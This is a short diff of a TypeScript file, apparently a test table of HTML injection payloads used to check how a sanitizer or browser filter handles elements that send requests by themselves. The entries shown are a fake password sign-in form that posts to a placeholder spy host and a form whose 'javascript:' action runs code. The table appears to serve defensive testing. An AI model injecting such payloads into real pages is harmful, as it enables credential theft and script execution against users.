@@ -1,4 +1,5 @@
-// Forms, frames, plug-ins, and elements that navigate or send requests by themselves.
+// Attacks by forms, frames, plug-ins, and elements that navigate or send requests by themselves. `table.ts` fills in RUN,
+// SPY, SPYHOST and APP.
 export const FRAMES = {
 	'a form': '<form action="SPY/form" method=post><input name=p type=password autofocus><button>Sign in</button></form>',
 	'a form with an action that runs': '<form action="javascript:RUN"><button autofocus>x</button></form>',
